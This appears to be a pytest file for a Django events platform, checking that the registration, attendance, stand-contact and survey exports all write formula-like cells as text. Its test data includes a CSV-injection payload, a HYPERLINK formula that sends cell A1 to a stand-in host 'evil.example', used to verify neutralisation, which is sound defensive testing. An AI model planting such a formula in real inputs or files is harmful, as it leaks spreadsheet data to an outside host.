"""Every CSV and XLSX file the product hands out goes through one writer
(infra/exports.py), and that writer neutralises cells a spreadsheet would run as a
formula: a visitor named "=HYPERLINK(...)" is text in the organiser's spreadsheet, in every
export."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings

from events_platform.models import Membership
from tests.checkin.factories import DoorEventFactory, make_ticket
from tests.factories import MembershipFactory

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?d="&A1;"Details")',
    "+49 Anruf",
    "-1+1",
    "@SUM(A1:A9)",
    "\tTabulator",
]

# Every export of the product: (URL pattern, how to read the file). The source check below
# fails when a module calls the writer that this list does not cover.
EXPORTS = {
    # The one builder of the registration export, for the organiser's page and the API.
    "ticketing/exports.py": [
        ("/tickets/organiser/{pk}/export.csv", "csv"),
        ("/tickets/organiser/{pk}/export.xlsx", "xlsx"),
        ("/api/tickets/organiser/events/{pk}/registrations/export/", "csv"),
        ("/api/tickets/organiser/events/{pk}/registrations/export/?file_format=xlsx", "xlsx"),
    ],
    "checkin/views_organiser.py": [
        ("/einlass/events/{pk}/attendance.csv", "csv"),
    ],
    # The figures' tables hold no names of people (a site's town may be hostile: tested in
    # tests/figures/test_pages.py::test_a_hostile_town_is_written_as_text).
    "figures/views.py": [],
    # A company's own stand contacts and a survey's results: their hostile cells are tested
    # below (test_stand_contacts_… and test_survey_results_…), with their own worlds.
    "leads/views.py": [],
    "surveys/views.py": [],
}

WRITER_MODULE = "infra/exports.py"
# Writing a CSV or XLSX file anywhere else bypasses the neutralising.
FORBIDDEN = re.compile(r"csv\.writer|csv\.DictWriter|\bopenpyxl\b|\bxlsxwriter\b|\bWorkbook\(")
WRITER_CALL = re.compile(r"\b(csv_bytes|xlsx_bytes)\(")


def _sources():
    root = Path(settings.BASE_DIR)
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if relative.split("/")[0] in {".venv", "tests", "node_modules", "frontend", "scripts"}:
            continue
        yield relative, path.read_text(encoding="utf-8")


def _cells(response, kind):
    if kind == "csv":
        text = response.content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows(values_only=True) for cell in row]


def test_no_module_but_the_writer_writes_csv_or_xlsx():
    outside = [
        name for name, text in _sources() if name != WRITER_MODULE and FORBIDDEN.search(text)
    ]
    assert outside == []


def test_every_module_that_exports_is_covered_here():
    callers = {
        name for name, text in _sources() if name != WRITER_MODULE and WRITER_CALL.search(text)
    }
    assert callers == set(EXPORTS)


def test_every_export_writes_formula_names_as_text(client):
    event = DoorEventFactory()
    for n, name in enumerate(HOSTILE_NAMES):
        make_ticket(event, n, name=name)
    organiser = MembershipFactory(
        organisation=event.organisation, role=Membership.Role.ORGANISER_ADMIN
    )
    client.force_login(organiser.user)

    urls = [
        (url.format(pk=event.pk), kind) for exports in EXPORTS.values() for url, kind in exports
    ]
    for url, kind in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        cells = [cell for cell in _cells(response, kind) if isinstance(cell, str)]
        for name in HOSTILE_NAMES:
            assert "'" + name in cells, (url, name)
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))], url


def _assert_neutralised(response, kind, texts):
    assert response.status_code == 200
    cells = [cell for cell in _cells(response, kind) if isinstance(cell, str)]
    for text in texts:
        assert "'" + text in cells, (kind, text)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))], kind


def test_stand_contacts_write_formula_names_as_text():
    """A visitor who shared their contact under a hostile name, in the company's files."""
    from django.test import Client
    from django.urls import reverse

    from fairs.models import CompanyMember
    from tests.fairs.factories import CompanyMemberFactory
    from tests.leads.factories import paired_stand
    from tests.leads.test_pages import upload

    booking, _device, token = paired_stand()
    items = [
        {
            "nonce": f"n{n}",
            "secret": make_ticket(
                booking.fair.event, n, share_contact_consent=True, name=name
            ).secret,
        }
        for n, name in enumerate(HOSTILE_NAMES)
    ]
    assert upload(token, items).status_code == 200
    member = CompanyMemberFactory(company=booking.company, role=CompanyMember.Role.ADMIN)
    client = Client()
    client.force_login(member.user)
    for kind in ("csv", "xlsx"):
        response = client.get(reverse("leads:company-contacts-export", args=[kind]))
        _assert_neutralised(response, kind, HOSTILE_NAMES)


def test_survey_results_write_formula_answers_as_text():
    """A company's free-text answer that reads as a formula, in the organiser's files."""
    from django.test import Client
    from django.urls import reverse
    from django.utils import timezone

    from surveys import services
    from surveys.models import Invitation
    from tests.surveys.build import answer_all, build_survey

    world = build_survey(anonymous=False, companies=len(HOSTILE_NAMES))
    survey = world["survey"]
    services.open_survey(survey=survey, by=None, now=timezone.now())
    for invitation, text in zip(Invitation.objects.order_by("pk"), HOSTILE_NAMES, strict=True):
        answer_all(world, invitation, remark=text)
    client = Client()
    client.force_login(world["organiser"])
    for kind in ("csv", "xlsx"):
        response = client.get(reverse("surveys:export", args=[survey.pk, kind]))
        _assert_neutralised(response, kind, HOSTILE_NAMES)
